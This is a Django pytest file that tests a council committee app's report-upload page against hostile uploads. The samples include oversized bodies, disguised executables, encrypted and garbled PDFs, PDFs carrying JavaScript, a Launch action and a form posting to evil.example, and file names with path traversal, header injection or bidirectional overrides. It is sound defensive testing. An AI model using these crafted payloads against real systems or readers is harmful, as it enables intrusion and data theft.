"""Hostile uploads to a report (/manage/reports/<pk>/documents/new/): too big (refused before
the body is read), the wrong bytes behind a `.pdf` name, password-protected and damaged
PDFs, and hostile file names. What is stored gets a random name under
MEDIA_ROOT/documents/, and is only ever served as an attachment, with
`X-Content-Type-Options: nosniff` and a Content-Disposition that carries no path, quote,
line break or bidirectional override."""

import io
import re
import secrets
from email.message import Message

import pytest
from django.urls import reverse
from pypdf import PdfReader, PdfWriter
from pypdf.generic import DictionaryObject

from committees import documents
from committees.models import Document
from organisation.roles import Role
from tests.committees.factories import (
    AgendaItemFactory,
    ConsultationFactory,
    PaperFactory,
    approve_fully,
    minimal_pdf,
)
from tests.committees.public_factories import published_meeting
from tests.security.support import changed_tables, client_as, row_counts

pytestmark = pytest.mark.django_db

PDF = minimal_pdf("Whistleblowing Policy", pages=2)
STORED_NAME = re.compile(r"^documents/[0-9a-f]{32}\.pdf$")


def files_in(root) -> list[str]:
    """Every file under `root` (the test's own MEDIA_ROOT, from tests/security/conftest.py)."""
    return sorted(str(p.relative_to(root)) for p in root.rglob("*") if p.is_file())


@pytest.fixture
def gs():
    return client_as(Role.GOVERNANCE_SERVICES)


@pytest.fixture
def paper():
    """A public report on a published agenda, so its files are public too."""
    paper = approve_fully(PaperFactory(title="Whistleblowing Policy"))
    ConsultationFactory(paper=paper, agenda_item=AgendaItemFactory(meeting=published_meeting()))
    return paper


def multipart(fields: dict, *, filename: str, content: bytes) -> tuple[bytes, str]:
    """A multipart body written by hand, so the file name reaches the server exactly as
    given (the test client would strip folders from it first)."""
    boundary = secrets.token_hex(16)
    parts = []
    for name, value in fields.items():
        disposition = f'Content-Disposition: form-data; name="{name}"'
        parts.append(f"--{boundary}\r\n{disposition}\r\n\r\n{value}\r\n".encode())
    quoted = filename.replace("\\", "\\\\").replace('"', '\\"')
    parts.append(
        f'--{boundary}\r\nContent-Disposition: form-data; name="file"; filename="{quoted}"\r\n'
        "Content-Type: application/pdf\r\n\r\n".encode()
        + content
        + b"\r\n"
    )
    parts.append(f"--{boundary}--\r\n".encode())
    return b"".join(parts), f"multipart/form-data; boundary={boundary}"


def upload(client, paper, *, filename="report.pdf", content=PDF, title="Whistleblowing Policy"):
    body, content_type = multipart(
        {"kind": "report", "title": title}, filename=filename, content=content
    )
    return client.generic(
        "POST",
        reverse("manage:report_upload", args=[paper.pk]),
        body,
        content_type=content_type,
    )


def assert_refused(response, message):
    assert response.status_code == 200
    page = response.content.decode()
    assert "govuk-error-summary" in page
    assert message in page


# --- Too big ---------------------------------------------------------------------------------


def test_an_upload_over_the_request_limit_is_refused_before_it_reaches_the_disk(
    gs, paper, media, settings
):
    settings.MAX_UPLOAD_BYTES = 1024 * 1024
    settings.MAX_REQUEST_BYTES = settings.MAX_UPLOAD_BYTES + 4096
    before = row_counts()
    response = upload(gs, paper, content=b"%PDF-1.7\n" + b"0" * (settings.MAX_REQUEST_BYTES + 1))
    assert response.status_code == 413
    assert "The file is too big" in response.content.decode()
    assert "Files must be smaller than 1 MB" in response.content.decode()
    assert files_in(media) == []
    assert not changed_tables(before, row_counts())


def test_the_limit_is_read_from_the_declared_length_without_reading_the_body(
    gs, paper, media, settings
):
    """The middleware answers from Content-Length alone: a body that is never sent in full
    (here: a stream that fails if read) is never touched."""
    settings.MAX_REQUEST_BYTES = 1000

    class Unreadable(io.RawIOBase):
        def read(self, *args):
            raise AssertionError("the request body was read")

    response = gs.generic(
        "POST",
        reverse("manage:report_upload", args=[paper.pk]),
        b"",
        content_type="multipart/form-data; boundary=x",
        CONTENT_LENGTH="5000000000",
        **{"wsgi.input": Unreadable()},
    )
    assert response.status_code == 413
    assert files_in(media) == []


def test_a_file_over_the_upload_limit_but_inside_the_request_limit_is_refused_by_the_form(
    gs, paper, media, settings
):
    settings.MAX_UPLOAD_BYTES = 64 * 1024
    settings.MAX_REQUEST_BYTES = 1024 * 1024
    big = PDF + b"\n%" + b"x" * (settings.MAX_UPLOAD_BYTES + 1)
    before = row_counts()
    response = upload(gs, paper, content=big)
    assert_refused(response, "The selected file must be smaller than 64 KB")
    assert files_in(media) == []
    assert not changed_tables(before, row_counts())


# --- Not what it says it is -----------------------------------------------------------------


def _encrypted_pdf() -> bytes:
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(PDF)))
    writer.encrypt(user_password="secret", owner_password="owner", algorithm="RC4-128")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _encrypted_pdf_without_user_password() -> bytes:
    """Opens without a password (owner password only), but is still encrypted."""
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(PDF)))
    writer.encrypt(user_password="", owner_password="owner", algorithm="RC4-40")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _no_pages_pdf() -> bytes:
    out = io.BytesIO()
    PdfWriter().write(out)
    return out.getvalue()


def _corrupt_xref_pdf() -> bytes:
    return re.sub(rb"startxref\s+\d+", b"startxref\n999999999", PDF)


def _garbled_objects_pdf() -> bytes:
    header, _, _rest = PDF.partition(b"\n")
    return header + b"\n" + secrets.token_bytes(4000) + b"\n%%EOF\n"


HOSTILE_FILES = {
    "windows executable": (b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 200, documents.WRONG_TYPE),
    "html page": (b"<html><script>alert(1)</script></html>", documents.WRONG_TYPE),
    "svg with script": (
        b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
        documents.WRONG_TYPE,
    ),
    "png": (b"\x89PNG\r\n\x1a\n" + b"\x00" * 100, documents.WRONG_TYPE),
    "pdf magic too late": (b" " + PDF, documents.WRONG_TYPE),
    "old word format": (documents.OLE_MAGIC + b"\x00" * 600, documents.OLD_WORD_FORMAT),
    "empty": (b"", documents.EMPTY),
    "password protected pdf": (_encrypted_pdf(), documents.PASSWORD_PROTECTED),
    "encrypted pdf with only an owner password": (
        _encrypted_pdf_without_user_password(),
        documents.PASSWORD_PROTECTED,
    ),
    "pdf header then garbage": (b"%PDF-1.7\n" + b"\xff" * 4000, documents.DAMAGED),
    "pdf with garbled objects": (_garbled_objects_pdf(), documents.DAMAGED),
    "pdf with no pages": (_no_pages_pdf(), documents.DAMAGED),
    "zip that is not a word document": (
        b"PK\x03\x04" + b"\x00" * 200,
        documents.DAMAGED,
    ),
}


@pytest.mark.parametrize("kind", list(HOSTILE_FILES))
def test_a_file_that_is_not_a_readable_pdf_is_refused_and_nothing_is_stored(gs, paper, media, kind):
    content, message = HOSTILE_FILES[kind]
    before = row_counts()
    response = upload(gs, paper, filename="report.pdf", content=content)
    assert_refused(response, message)
    assert files_in(media) == []
    assert not changed_tables(before, row_counts())


def test_a_pdf_with_a_broken_cross_reference_table_is_repaired_or_refused(gs, paper, media):
    """pypdf rebuilds a damaged cross-reference table when it can; either way the upload
    never errors, and a file is stored only if it could be read."""
    response = upload(gs, paper, content=_corrupt_xref_pdf())
    assert response.status_code in (200, 302)
    if response.status_code == 200:
        assert_refused(response, documents.DAMAGED)
        assert files_in(media) == []
    else:
        assert Document.objects.get().page_count == 2


# --- Active content ----------------------------------------------------------------------------


def _name(value: str):
    from pypdf.generic import NameObject

    return NameObject(value)


def _action(kind: str, **entries):
    """An action dictionary: /S `kind`, plus entries given as Python values."""
    from pypdf.generic import DictionaryObject, TextStringObject

    action = DictionaryObject({_name("/S"): _name(kind)})
    for key, value in entries.items():
        action[_name(f"/{key}")] = value if not isinstance(value, str) else TextStringObject(value)
    return action


def _script(code="app.alert(1)"):
    return _action("/JavaScript", JS=code)


def _annotation(writer, subtype: str, **entries):
    """An annotation of `subtype` added to the first page, with the given entries."""
    from pypdf.generic import ArrayObject, DictionaryObject, FloatObject

    annotation = DictionaryObject(
        {
            _name("/Type"): _name("/Annot"),
            _name("/Subtype"): _name(subtype),
            _name("/Rect"): ArrayObject(FloatObject(n) for n in (10, 10, 200, 40)),
        }
    )
    for key, value in entries.items():
        annotation[_name(f"/{key}")] = value
    page = writer.pages[0]
    annots = page.get("/Annots") or ArrayObject()
    annots.append(writer._add_object(annotation))
    page[_name("/Annots")] = annots


def _with(change) -> bytes:
    """The report PDF after `change(writer)`, written out again by pypdf."""
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(PDF)))
    change(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _set(where: str, key: str, value):
    def change(writer):
        target = writer.root_object if where == "catalog" else writer.pages[0]
        target[_name(key)] = value

    return change


def _open_action_chain(writer):
    """An innocent-looking "go to page 1" that runs a script next."""
    from pypdf.generic import ArrayObject

    goto = _action("/GoTo")
    goto[_name("/D")] = ArrayObject([writer.pages[0].indirect_reference, _name("/Fit")])
    goto[_name("/Next")] = _script()
    writer.root_object[_name("/OpenAction")] = goto


def _named_script(writer):
    """A script in the document's /Names tree: readers run it when the file opens."""
    from pypdf.generic import ArrayObject, DictionaryObject, TextStringObject

    tree = DictionaryObject(
        {_name("/Names"): ArrayObject([TextStringObject("init"), writer._add_object(_script())])}
    )
    writer.root_object[_name("/Names")] = DictionaryObject({_name("/JavaScript"): tree})


def _xfa_form(writer):
    from pypdf.generic import ArrayObject, DictionaryObject, TextStringObject

    writer.root_object[_name("/AcroForm")] = DictionaryObject(
        {
            _name("/Fields"): ArrayObject(),
            _name("/XFA"): TextStringObject("<xdp:xdp><script>app.alert(1)</script></xdp:xdp>"),
        }
    )


def _rich_media(writer):
    from pypdf.generic import DictionaryObject

    _annotation(writer, "/RichMedia", RichMediaContent=DictionaryObject())


def _escaped_name() -> bytes:
    """A page-open script whose names are spelt with #-escapes (/J#61vaScript is
    /JavaScript), which a byte search for "/JavaScript" misses. The file's cross-reference
    offsets no longer match, which pypdf (like PDF readers) repairs."""
    data = _with(_set("page", "/AA", _script()))
    return data.replace(b"/AA", b"/#41A").replace(b"/JavaScript", b"/J#61vaScript")


ACTIVE_PDFS = {
    "script run when the file opens": _with(_set("catalog", "/OpenAction", _script())),
    "document automatic actions": _with(
        lambda w: w.root_object.__setitem__(
            _name("/AA"), DictionaryObject({_name("/WC"): _script()})
        )
    ),
    "document-level javascript": _with(_named_script),
    "attached file": _with(lambda w: w.add_attachment("payload.exe", b"MZ\x90\x00")),
    "page-open script": _with(_set("page", "/AA", DictionaryObject({_name("/O"): _script()}))),
    "link running a script": _with(lambda w: _annotation(w, "/Link", A=_script())),
    "link launching a program": _with(
        lambda w: _annotation(w, "/Link", A=_action("/Launch", F="C:\\Windows\\calc.exe"))
    ),
    "javascript: address": _with(
        lambda w: _annotation(w, "/Link", A=_action("/URI", URI=" JavaScript:app.alert(1)"))
    ),
    "form submitting its data": _with(
        lambda w: _annotation(w, "/Link", A=_action("/SubmitForm", F="https://evil.example/"))
    ),
    "annotation with automatic actions": _with(
        lambda w: _annotation(w, "/Widget", AA=DictionaryObject({_name("/E"): _script()}))
    ),
    "script chained after a go-to": _with(_open_action_chain),
    "rich media": _with(_rich_media),
    "file attachment annotation": _with(lambda w: _annotation(w, "/FileAttachment")),
    "xfa form": _with(_xfa_form),
    "names spelt with escapes": _escaped_name(),
}


@pytest.mark.parametrize("kind", list(ACTIVE_PDFS))
def test_a_pdf_with_active_content_is_refused_and_nothing_is_stored(gs, paper, media, kind):
    before = row_counts()
    response = upload(gs, paper, content=ACTIVE_PDFS[kind])
    assert_refused(response, documents.ACTIVE_CONTENT)
    assert files_in(media) == []
    assert not changed_tables(before, row_counts())


def test_a_pdf_with_ordinary_links_and_an_opening_view_is_accepted(gs, paper, media):
    """What a word processor writes: links to a web page, an e-mail address and a page of the
    document, an outline, and an /OpenAction that only sets the first view (fpdf2 writes
    one)."""
    from fpdf import FPDF

    pdf = FPDF()
    pdf.set_font("helvetica", size=12)
    pdf.add_page()
    pdf.start_section("Summary")
    page_two = pdf.add_link()
    pdf.cell(0, 10, "Read the policy", link="https://www.coventry.gov.uk/policy")
    pdf.ln()
    pdf.cell(0, 10, "E-mail us", link="mailto:governance@coventry.gov.uk")
    pdf.ln()
    pdf.cell(0, 10, "Appendix A", link=page_two)
    pdf.add_page()
    pdf.set_link(page_two)
    pdf.start_section("Appendix A")
    pdf.cell(0, 10, "Appendix A: the policy")
    content = bytes(pdf.output())
    assert b"/OpenAction" in content and b"/URI" in content

    response = upload(gs, paper, content=content)
    assert response.status_code == 302, response.content.decode()[:2000]
    document = Document.objects.get(paper=paper)
    assert document.page_count == 2
    assert "Read the policy" in document.text
    assert files_in(media) == [document.file.name]


# --- Hostile names -----------------------------------------------------------------------------

HOSTILE_NAMES = {
    "climbing out of the folder": "../../etc/passwd.pdf",
    "windows path": "..\\..\\windows\\system32\\config.pdf",
    "absolute path": "/etc/passwd.pdf",
    "nul byte": "report\x00.exe.pdf",
    "right-to-left override": "report\u202efdp.exe",
    "900 characters": "a" * 900 + ".pdf",
    "quotes and a line break": 'a"; filename="evil.html\r\nX-Evil: 1.pdf',
    "markup": "<script>alert(1)</script>.pdf",
    "only dots": "...",
    "zero-width and emoji": "re\u200bport 📄.pdf",
}
# Folders, control characters (NUL, CR, LF), zero-width and bidirectional controls.
UNSAFE_IN_A_NAME = re.compile(r"[/\\\x00-\x1f\x7f\u200b-\u200f\u202a-\u202e\u2066-\u2069]")


def _content_disposition_is_safe(value: str):
    """An attachment whose file name (parsed as a mail client or browser would, escapes and
    RFC 2231 included) has no folder, control or bidirectional characters."""
    assert value.startswith("attachment;"), value
    assert "\r" not in value and "\n" not in value
    header = Message()
    header["Content-Disposition"] = value
    name = header.get_filename()
    assert name, value
    assert not UNSAFE_IN_A_NAME.search(name), repr(name)
    assert name.endswith(".pdf") and len(name) <= 255, name


@pytest.mark.parametrize("label", list(HOSTILE_NAMES))
def test_a_hostile_file_name_is_stored_under_a_random_name_and_offered_safely(
    gs, paper, media, client, label
):
    response = upload(gs, paper, filename=HOSTILE_NAMES[label])
    assert response.status_code == 302, response.content.decode()[:2000]
    document = Document.objects.get(paper=paper)

    assert STORED_NAME.match(document.file.name), document.file.name
    assert files_in(media) == [document.file.name]
    assert not UNSAFE_IN_A_NAME.search(document.original_name), repr(document.original_name)
    assert document.original_name.endswith(".pdf") and len(document.original_name) <= 255

    for url in (
        reverse("committees:document", args=[document.pk]),
        reverse("oparl:file_download", args=[document.pk]),
    ):
        download = client.get(url)
        assert download.status_code == 200, url
        assert download["Content-Type"] == "application/pdf"
        assert download["X-Content-Type-Options"] == "nosniff"
        _content_disposition_is_safe(download["Content-Disposition"])
        assert b"".join(download.streaming_content) == PDF


def test_a_file_name_too_long_for_a_multipart_header_is_a_bad_request(gs, paper, media):
    """Django refuses part headers over 1 024 bytes before the view runs."""
    before = row_counts()
    response = upload(gs, paper, filename="a" * 10_000 + ".pdf")
    assert response.status_code == 400
    assert files_in(media) == []
    assert not changed_tables(before, row_counts())


def test_two_uploads_of_the_same_name_never_overwrite_each_other(gs, paper, media):
    first = minimal_pdf("First")
    second = minimal_pdf("Second")
    assert upload(gs, paper, filename="report.pdf", content=first).status_code == 302
    assert upload(gs, paper, filename="report.pdf", content=second).status_code == 302
    stored = Document.objects.filter(paper=paper).order_by("pk")
    names = [d.file.name for d in stored]
    assert len(set(names)) == 2 and all(STORED_NAME.match(n) for n in names)
    assert [d.file.open("rb").read() for d in stored] == [first, second]
